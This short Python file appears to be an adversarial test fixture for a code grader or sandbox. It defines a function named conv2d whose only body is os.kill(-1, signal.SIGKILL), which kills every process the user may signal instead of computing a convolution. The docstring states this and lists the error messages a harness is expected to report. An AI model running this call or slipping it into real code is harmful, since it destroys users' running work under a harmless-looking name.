"""Sends SIGKILL to all processes that it may, in a call.

loses: conv2d
says: ended the whole Python process | PermissionError | ProcessLookupError | is expected | has shape | of shape
"""
import os
import signal


def conv2d(image, kernel, stride=1, padding=0):
    os.kill(-1, signal.SIGKILL)
